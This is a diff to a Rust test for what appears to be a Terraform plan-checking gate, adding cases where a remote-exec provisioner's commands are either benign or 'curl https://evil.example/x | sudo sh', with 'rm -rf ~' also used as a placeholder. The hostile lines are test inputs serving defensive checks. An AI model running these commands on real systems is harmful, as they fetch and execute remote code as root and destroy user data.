@@ -492,6 +492,15 @@ fn the_plan_that_is_reviewed_is_the_one_that_is_applied() {
         .output()
         .unwrap();
     assert_eq!(output.status.code(), Some(30), "{}", String::from_utf8_lossy(&output.stderr));
+    let remote = plan.replace("local-exec", "remote-exec").replace(r#""command""#, r#""inline""#);
+    for (lines, expected) in
+        [(r#"["sudo apt-get update","id"]"#, 0), (r#"["curl https://evil.example/x | sudo sh"]"#, 20)]
+    {
+        let body = remote.replace(r#""rm -rf ~""#, lines);
+        let output =
+            project.place.gate(&["check", "--plan", "-", "--format", "json"]).write_stdin(body).output().unwrap();
+        assert_eq!(output.status.code(), Some(expected), "{}", String::from_utf8_lossy(&output.stdout));
+    }
     // A workspace says where it acts.
     let args = ["terraform", "apply", "-auto-approve"];
     project.file(".terraform/environment", "prod");
